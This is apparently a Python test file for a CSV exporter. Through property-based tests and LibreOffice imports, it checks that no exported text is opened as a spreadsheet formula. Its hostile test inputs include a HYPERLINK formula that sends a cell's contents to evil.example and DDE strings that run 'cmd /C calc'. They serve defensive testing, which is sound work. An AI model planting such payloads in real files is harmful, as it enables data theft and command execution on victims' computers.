"""No exported text runs in a spreadsheet, wherever it cuts the file into cells; and no text is lost."""

import csv
import io
import re
import shutil
import subprocess
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.skips import skip_or_fail
from tips.export.csv_writer import cell, lines, restore

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
SEPARATORS = [",", ";", "\t", "|"]
BETWEEN = ["", " ", "x", "x;", "x ;", 'x"', 'x;"', '"', '""', "x\n", "x\r\n", "x\r", "x,", "x\t"]
BETWEEN += ["x|", "x, ", 'x;" ', "'", "x;'", "\u00a0", "\ufeff", "x\u2028", "x;\u00a0"]
HOSTILE = [f"{between}{start}1+1" for between in BETWEEN for start in STARTS]
HOSTILE += ['x;=HYPERLINK("http://evil.example/?"&A1;"see")', "x\n=cmd|' /C calc'!A0", '";=1+1;"']
HOSTILE += [
    'x";"=1+1',
    'x"\n"=1+1"',
    "=1+1;\n;=2+2",
    "x;;=1+1",
    "x;\t,=1+1",
    "-5;-6;+7",
    "x';'=1+1",
]

pieces = st.one_of(
    st.sampled_from([*STARTS, *SEPARATORS, '"', "'", " ", "\n", "\r", "\t", "\u00a0", "\u2028"]),
    st.text(max_size=3),
)
texts = st.lists(pieces, max_size=12).map("".join)


def harmless(text):
    """Return whether a spreadsheet takes a cell for a text, after what it skips at the start."""
    return not text.lstrip(' \t\r\n"\u00a0\ufeff\u200b\u2028').startswith(tuple(STARTS))


@given(texts)
@example("'\t=1")
@example("'=1")
@example("''\r")
def test_every_text_comes_back_as_it_was(text):
    assert restore(cell(text)) == text


@given(texts)
def test_no_place_where_a_cell_could_start_has_a_formula(text):
    for part in re.split(r'[;,|\t\n\r\v\f"\x85\u2028\u2029]', cell(text)):
        assert harmless(part), part


@given(st.lists(texts, min_size=1, max_size=4), st.sampled_from(SEPARATORS), st.booleans())
def test_a_parser_of_any_separator_finds_no_formula(row, separator, reads_quotes):
    written = "".join(lines(["a"] * len(row), [row]))
    quoting = csv.QUOTE_MINIMAL if reads_quotes else csv.QUOTE_NONE
    read = csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=quoting)
    for found in read:
        assert all(harmless(each) for each in found), found


@given(st.lists(texts, min_size=1, max_size=4))
def test_a_parser_of_commas_gets_each_text_in_its_own_cell(row):
    written = "".join(lines(["a"] * len(row), [row]))
    found = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert [[restore(each) for each in cells] for cells in found] == [row]


@pytest.mark.parametrize("text", ["Lyon", "a = b", "x-ray", "jane@mail.example", "1+1", "'quoted'"])
def test_ordinary_texts_are_not_touched(text):
    assert cell(text) == text


@pytest.mark.parametrize("start", "=+-@\t\r")
def test_no_cell_runs_as_a_formula(start):
    assert cell(f"{start}cmd|' /C calc'!A0").startswith("'")


def test_values_that_are_no_texts_are_written_plainly():
    assert cell(None) == ""
    assert cell(7) == "7"
    assert cell(datetime(2026, 1, 2, 3, 4, 5, 6, UTC)) == "2026-01-02T03:04:05+00:00"


LIBREOFFICE = shutil.which("soffice")
ENGLISH, GERMAN, FRENCH, JAPANESE = 1033, 1031, 1036, 1041
READINGS = [
    # separators, text delimiter, language, quoted cells are texts, numbers are detected
    ("44", "34", ENGLISH, False),
    ("44", "34", ENGLISH, True),
    ("59", "34", GERMAN, False),
    ("59", "34", FRENCH, True),
    ("9", "34", ENGLISH, False),
    ("124", "34", ENGLISH, False),
    ("44/59/9", "34", GERMAN, False),  # what the dialogue offers when it is not sure
    ("44/59/9/MRG", "34", GERMAN, False),
    ("59", "", GERMAN, False),  # no text delimiter
    ("44/59/9", "", FRENCH, False),
    ("44", "34", JAPANESE, False),
]


def open_in_libreoffice(folder, profile, text, separators, delimiter, language, are_texts):
    """Return the sheet's cells as (text, formula), row by row, without empty ones."""
    (folder / "export.csv").write_bytes(b"\xef\xbb\xbf" + text.encode())
    flags = f"{str(are_texts).lower()},true,false,false,false,-1,true"
    subprocess.run(
        [
            *(LIBREOFFICE, f"-env:UserInstallation=file://{profile}", "--headless"),
            *("--convert-to", "fods", "--outdir", str(folder)),
            f"--infilter=CSV:{separators},{delimiter},76,1,,{language},{flags}",
            str(folder / "export.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    sheet = ElementTree.parse(folder / "export.fods")
    return [
        [
            ("".join(each.itertext()), each.get(f"{table}formula"))
            for each in row.iter(f"{table}table-cell")
            if "".join(each.itertext()) or each.get(f"{table}formula")
        ]
        for row in sheet.iter(f"{table}table-row")
    ]


pytestmark = pytest.mark.xdist_group("spreadsheets")  # what they share is made once


@pytest.fixture(scope="module")
def profile(tmp_path_factory):
    """LibreOffice's own folder, which takes it a second to make."""
    if LIBREOFFICE is None:
        skip_or_fail("NO LIBREOFFICE: install libreoffice-calc to run this test")
    return tmp_path_factory.mktemp("libreoffice")


class TestInLibreOffice:
    @pytest.mark.parametrize("reading", READINGS, ids=str)
    def test_no_reading_of_an_export_makes_a_formula(self, tmp_path, profile, reading):
        written = "".join(
            lines(["id", "text", "country"], ([n, t, "ES"] for n, t in enumerate(HOSTILE)))
        )
        rows = open_in_libreoffice(tmp_path, profile, written, *reading)
        assert sum(map(len, rows)) >= len(HOSTILE)
        assert [found for row in rows for found in row if found[1]] == []

    @pytest.mark.parametrize("reading", READINGS[:1] + READINGS[2:7:2], ids=str)
    def test_the_same_texts_undefused_do_make_formulas(self, tmp_path, profile, reading):
        """So the test above would see one."""
        buffer = io.StringIO(newline="")
        csv.writer(buffer).writerows([n, t, "ES"] for n, t in enumerate(HOSTILE))
        rows = open_in_libreoffice(tmp_path, profile, buffer.getvalue(), *reading)
        assert any(formula for row in rows for _, formula in row)

    def test_with_commas_no_text_spills_into_another_cell(self, tmp_path, profile):
        rows = open_in_libreoffice(
            tmp_path,
            profile,
            "".join(lines(["id", "text", "end"], ([n, t, "ES"] for n, t in enumerate(HOSTILE)))),
            *("44", "34", ENGLISH, False),
        )
        assert len(rows) == len(HOSTILE) + 1
        assert {len(row) for row in rows} == {3}
        assert {row[-1][0].strip() for row in rows[1:]} == {"ES"}
